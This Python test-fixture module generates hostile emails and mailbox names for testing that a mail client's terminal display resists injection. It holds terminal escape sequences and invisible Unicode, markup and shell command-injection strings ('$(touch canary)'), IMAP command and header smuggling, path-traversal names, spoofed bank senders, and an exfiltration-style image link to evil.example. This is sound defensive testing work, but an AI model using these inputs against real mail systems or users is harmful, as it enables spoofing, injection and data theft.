"""Hostile mails and mailbox names, made anew from a seed: nobody else's mail is in this repository.

Everything that must never reach a terminal is one of PAYLOADS, each followed by the word
`canary`: whoever looks at a terminal's bytes searches for CANARIES.
"""

import base64
import quopri
import random
from collections.abc import Callable

PAYLOADS = (
    "\x1b[31mcanary",
    "\x1b[2J\x1b[Hcanary",
    "\x1b]0;canary\x07",
    "\x1b]52;c;Y2FuYXJ5\x07canary",
    "\x1b]8;;https://canary.example\x1b\\canary",
    "\x1bPcanary\x1b\\",
    "\x1b_canary\x1b\\",
    "\x1bccanary",
    "\x1b[6ncanary",
    "\x1b[?1049lcanary",
    "\x1b[?1003hcanary",
    "\x9b31mcanary",
    "\x9d0;canary\x9c",
    "\x90canary\x9c",
    "\x07canary",
    "\x08\x08\x08canary",
    "\x00canary",
    "\x7fcanary",
    "\x0ecanary\x0f",
    "\x0bcanary\x0c",
    "\rcanary",
    "\x85canary",
    "\u202ecanary",
    "\u2066canary\u2069",
    "\u200e\u200fcanary",
    "\u061ccanary",
    "\u200bcanary\ufeff",
    "\u2028canary\u2029",
    "\U000e0063\U000e0061canary\U000e007f",
    "\ufff9canary\ufffb",
    "\u00adcanary\u2060",
    "c" + "\u0301\u0489" * 100 + "anary",
    "\u0300\u0300canary",
    "\u1100" + "\u1161" * 50 + "canary",
    "\U0001f468" + "\u200d\U0001f469" * 40 + "canary",
    "\u754c" * 60 + "canary",
    "\ufe0f\ufe0fcanary",
    "\ufdfd\U00012031canary",
    "[@click=app.quit()]canary[/]",
    "[/canary]",
    "[bold red]canary[/bold]",
    "[link=file:///etc/passwd]canary",
    "$canary {canary} %s %(canary)s",
    "canary\\[x]\\",
)
"""Sequences for terminals, direction, nothing to be seen, stacks of marks, markup."""

_TRACES = (
    *("\x1b[31mcanary", "\x1b]0;canary", "\x1b]52;c;Y2Fu", "\x1b]8;;https://canary", "\x1bPcanary"),
    *("\x1b_canary", "\x1bccanary", "\x1b[6ncanary", "\x1b[?1049lcanary", "\x1b[?1003hcanary"),
    *("\x9b31mcanary", "\x9d0;canary", "\x90canary", "\x07canary", "\x08canary", "\x00canary"),
    *("\x7fcanary", "\x0ecanary", "\x0bcanary", "\x85canary", "\u202ecanary", "\u2066canary"),
    *("\u200fcanary", "\u061ccanary", "\u200bcanary", "\u2028canary", "\U000e0063", "\ufff9canary"),
    *("\xadcanary", "\ufe0f\ufe0fcanary"),
)
CANARIES = (
    *(trace.encode() for trace in _TRACES),
    *(b"\x9b31mcanary", b"\x9d0;canary", b"\x90canary"),
)
"""Bytes that show that something got through."""

ENCODED_CHARSETS = (
    "utf-8",
    "utf-16",
    "utf-7",
    "iso-2022-jp",
    "unicode_escape",
    "idna",
    "rot13",
    "no-such",
)

Make = Callable[[random.Random, str], bytes]


def hostile_mails(count: int = 200, seed: int = 1) -> list[bytes]:
    """Return `count` mails, the same for the same seed; every kind and payload comes in turn."""
    draw = random.Random(seed)
    mails = []
    for number in range(count):
        make = KINDS[number % len(KINDS)]
        payload = PAYLOADS[number % len(PAYLOADS)]
        mails.append(make(draw, payload))
    return mails


def hostile_mailbox_names(count: int = 50, seed: int = 1) -> list[str]:
    """Return `count` different mailbox names as a server could list them, decoded."""
    draw = random.Random(seed)
    names = [
        *(
            "../../etc/passwd",
            "/etc/shadow",
            "..",
            ".",
            "~root",
            "-rf",
            "CON",
            "a//b",
            "/",
            "a/../b",
        ),
        *("`touch canary`", "$(touch canary)", ";touch canary", "'canary", '"canary', "a" * 5_000),
        *("inbox", "InBoX", "INBOX/canary", "Tr\u0430sh", "Sent\u00a0", "canary\r\nA1 LOGOUT"),
        *("&canary", "&-", "&AGE", "%", "*", "a%b*c", "{10}", "\\Noselect", "canary " + "x/" * 200),
        *("\U0001f4e5", "e\u0301", "\u00e9", "\ud800canary"),
    ]
    names += [f"{draw.choice(PAYLOADS)}/{number}" for number in range(count)]
    mixed = [name for pair in zip(names, (*PAYLOADS, *names), strict=False) for name in pair]
    return list(dict.fromkeys(mixed))[:count]


def _header(draw: random.Random, subject: str = "an ordinary subject", **fields: str) -> list[str]:
    number = draw.randrange(10**9)
    base = {
        "From": "Mallory <mallory@example.net>",
        "To": "Alice <alice@example.org>",
        "Subject": subject,
        "Date": f"Tue, {draw.randrange(1, 28):02d} Mar 2026 10:11:12 +0000",
        "Message-ID": f"<{number}@hostile.example>",
        "MIME-Version": "1.0",
    }
    base |= {name.replace("_", "-"): body for name, body in fields.items()}
    return [f"{name}: {body}" for name, body in base.items() if body]


def _mail(header: list[str], body: str | bytes = "canary body\r\n") -> bytes:
    content = body if isinstance(body, bytes) else _bytes(body)
    return b"\r\n".join(map(_bytes, header)) + b"\r\n\r\n" + content


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "replace")


def _b(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(_bytes(text)).decode()}?="


def _q(text: str) -> str:
    return "=?utf-8?q?" + "".join(f"={octet:02X}" for octet in _bytes(text)) + "?="


def _raw_subject(draw: random.Random, payload: str) -> bytes:
    return _mail(_header(draw, payload.replace("\n", "")))


def _encoded_subject(draw: random.Random, payload: str) -> bytes:
    word = draw.choice((_b, _q))(payload + "\r\nBcc: canary@example.net")
    return _mail(_header(draw, f"Re: {word} {_b('more')}"))


def _latin_subject(draw: random.Random, payload: str) -> bytes:
    octets = payload.encode("latin-1", "replace")
    return b"Subject: " + octets + b"\r\n" + _mail(_header(draw, ""))


def _names(draw: random.Random, payload: str) -> bytes:
    return _mail(
        _header(
            draw,
            From=f"{_b(payload)} <mallory@example.net>",
            To=f'"{_q(payload)}" <a@example.org>, {payload} <b@example.org>, <{payload}@example.org>',
            Reply_To=f"{_b(payload)} <other@example.com>",
            List_Id=f"{payload} <{payload}.example.org>",
        )
    )


def _spoofed_sender(draw: random.Random, payload: str) -> bytes:
    author = draw.choice(
        (
            '"ceo@bank.example" <mallory@evil.example>',
            "ceo@bank.example]<mallory@evil.example>",
            "ceo@bank.example)mallory@evil.example",
            "<ceo@bank.example> <mallory@evil.example>",
            "ceo@bank.example, mallory@evil.example",
            f"{_b('ceo@bank.example')} {' ' * 300}<mallory@evil.example>",
            "ceo\uff20bank.example <mallory@evil.example>",
            "Bank <ceo@b\u0430nk.example>",
            ":;:;",
            "<[",
            '"' * 4_000,
            "(" * 2_000,
        )
    )
    return _mail(
        ["From: The Bank <ceo@bank.example>"] * draw.randrange(2)
        + _header(draw, payload, From=author)
    )


def _plain_body(draw: random.Random, payload: str) -> bytes:
    body = f"{payload}\r\n> {payload}\r\n-- \r\n{payload}\r\nhttps://x.example/{payload}\r\n"
    return _mail(_header(draw, Content_Type="text/plain; charset=utf-8"), body)


def _encoded_body(draw: random.Random, payload: str) -> bytes:
    body = _bytes(f"{payload}\r\n{payload}\r\n")
    if draw.random() < 0.5:
        encoding, content = "base64", base64.encodebytes(body)
    else:
        encoding, content = "quoted-printable", quopri.encodestring(body, quotetabs=True)
    header = _header(
        draw, Content_Type="text/plain; charset=utf-8", Content_Transfer_Encoding=encoding
    )
    return _mail(header, content)


def _charset_body(draw: random.Random, payload: str) -> bytes:
    charset = draw.choice(ENCODED_CHARSETS)
    escaped = payload.encode("unicode_escape")
    body = (
        payload.encode("utf-16", "replace")
        if charset == "utf-16"
        else escaped + b" +ABs-[31mcanary"
    )
    header = _header(
        draw, f"=?{charset}?q?=5Cx1b[31mcanary?=", Content_Type=f"text/plain; charset={charset}"
    )
    return _mail(header, body)


def _latin_body(draw: random.Random, payload: str) -> bytes:
    header = _header(draw, Content_Type="text/plain; charset=iso-8859-1")
    return _mail(header, payload.encode("latin-1", "replace"))


def _html_body(draw: random.Random, payload: str) -> bytes:
    entities = "".join(f"&#{ord(char)};" for char in payload)
    body = (
        f"<html><body><h1>{payload}</h1><p title='{payload}'>{entities}</p>"
        f"<a href='https://x.example/{payload}'>{payload}</a><img alt='{entities}' src='http://t.example/'>"
        f"<a href='javascript:canary'>x</a><pre>{payload}</pre><table border=1><tr><td>{payload}<td>2"
        f"<tr><td>3<td>{entities}</table><div style='display:none'>{payload}</div>"
        f"<a href='http://bank.example@evil.example/'>https://bank.example/</a></body></html>"
    )
    return _mail(_header(draw, Content_Type="text/html; charset=utf-8"), body)


def _alternative(draw: random.Random, payload: str) -> bytes:
    body = (
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{payload}\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<b>{payload}\r\n--b--\r\n"
    )
    return _mail(_header(draw, Content_Type='multipart/alternative; boundary="b"'), body)


def _file_names(draw: random.Random, payload: str) -> bytes:
    percent = "".join(f"%{octet:02X}" for octet in _bytes(payload))
    names = (
        f'filename="{payload}.pdf"',
        f"filename*=utf-8''..%2F..%2F{percent}%00.txt",
        f"filename*0*=utf-8''{percent[: len(percent) // 2]}; filename*1*={percent[len(percent) // 2 :]}.exe",
        f'filename="{_b(payload)}.exe"',
        'filename="annexe\u202egpj.exe"',
    )
    parts = "".join(
        f"--b\r\nContent-Type: application/octet-stream; name={_b(payload)}\r\n"
        f"Content-Disposition: attachment; {name}\r\nContent-ID: <{payload}>\r\n\r\ncanary\r\n"
        for name in names
    )
    return _mail(
        _header(draw, Content_Type="multipart/mixed; boundary=b"), f"--b\r\n\r\nhi\r\n{parts}--b--"
    )


def _field_names(draw: random.Random, payload: str) -> bytes:
    extra = [
        f"X-{payload}: {payload}",
        f"{payload}",
        f": {payload}",
        "Subject",
        f"Subject : {payload}",
    ]
    return _mail(
        extra
        + _header(
            draw, Date=f"Tue, 99 {payload}", Message_ID=f"<{payload}>", References=f"<{payload}> <["
        )
    )


def _broken_boundary(draw: random.Random, payload: str) -> bytes:
    stated = draw.choice(
        ('boundary="b"', "boundary=", "", 'boundary="b', f'boundary="{payload}"', "boundary=-")
    )
    body = draw.choice(
        (
            f"--b\r\nContent-Type: text/plain\r\n\r\n{payload}\r\n",
            f"--bb\r\n\r\n{payload}\r\n--b\r\n--b\r\n--b--\r\n--b\r\n{payload}",
            f"{payload}\r\n",
            "--b" * 3_000,
            "",
        )
    )
    return _mail(_header(draw, Content_Type=f"multipart/mixed; {stated}"), body)


def _deep(draw: random.Random, payload: str) -> bytes:
    depth = draw.choice((60, 400))
    pieces = [_mail(_header(draw, Content_Type="multipart/mixed; boundary=b0"), "")]
    pieces += [
        f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n".encode()
        for n in range(depth)
    ]
    return b"".join(pieces) + _bytes(f"--b{depth}\r\n\r\n{payload}\r\n")


def _many_parts(draw: random.Random, payload: str) -> bytes:
    body = "--b\r\n\r\nx\r\n" * 1_500
    return _mail(_header(draw, payload, Content_Type="multipart/mixed; boundary=b"), body)


def _nested_mail(draw: random.Random, payload: str) -> bytes:
    inner = _raw_subject(draw, payload)
    body = b"--b\r\nContent-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--b--\r\n"
    return _mail(_header(draw, Content_Type="multipart/digest; boundary=b"), body)


def _many_words(draw: random.Random, payload: str) -> bytes:
    return _mail(_header(draw, f"{_b(payload)} " * 300, To=", ".join(["x@example.org"] * 3_000)))


def _report(draw: random.Random, payload: str) -> bytes:
    body = (
        f"--b\r\n\r\n{payload}\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n"
        f"Reporting-MTA: dns; {payload}\r\n\r\nFinal-Recipient: rfc822; {payload}\r\nAction: {payload}\r\n"
        f"Status: 5.1.1 {payload}\r\nDiagnostic-Code: smtp; {payload}\r\n\r\n--b--\r\n"
    )
    return _mail(
        _header(draw, Content_Type="multipart/report; report-type=delivery-status; boundary=b"),
        body,
    )


def _no_mail(draw: random.Random, payload: str) -> bytes:
    noise = bytes(draw.randrange(256) for _ in range(300))
    return draw.choice(
        (
            b"",
            b"\r\n",
            _bytes(payload),
            noise,
            noise + _bytes(payload),
            b"\r\n\r\n" + _bytes(payload),
        )
    )


def _html_bomb(draw: random.Random, payload: str) -> bytes:
    unit = draw.choice(
        (
            "<div>",
            "<font color=%d><p>",
            "<table><tr><td>",
            "<blockquote>",
            "<a href=x:%d>y",
            "<ul><li>",
        )
    )
    body = "".join(unit % n if "%" in unit else unit for n in range(2_000)) + payload
    return _mail(_header(draw, Content_Type="text/html; charset=utf-8"), body)


def _flowed(draw: random.Random, payload: str) -> bytes:
    body = f"{payload} \r\n{payload} \r\n> {payload} \r\n>> {payload}\r\n{'>' * 300}{payload}\r\n"
    return _mail(
        _header(draw, Content_Type="text/plain; charset=utf-8; format=flowed; delsp=yes"), body
    )


def _covert(draw: random.Random, payload: str) -> bytes:
    """HTML left open around what another part holds."""
    body = (
        '--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
        f"--b\r\nContent-Type: text/plain\r\n\r\nsecret {payload}\r\n"
        '--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    return _mail(_header(draw, Content_Type="multipart/mixed; boundary=b"), body)


KINDS: tuple[Make, ...] = (
    _raw_subject,
    _encoded_subject,
    _latin_subject,
    _names,
    _spoofed_sender,
    _plain_body,
    _encoded_body,
    _charset_body,
    _latin_body,
    _html_body,
    _alternative,
    _file_names,
    _field_names,
    _broken_boundary,
    _deep,
    _many_parts,
    _nested_mail,
    _many_words,
    _report,
    _no_mail,
    _html_bomb,
    _flowed,
    _covert,
)
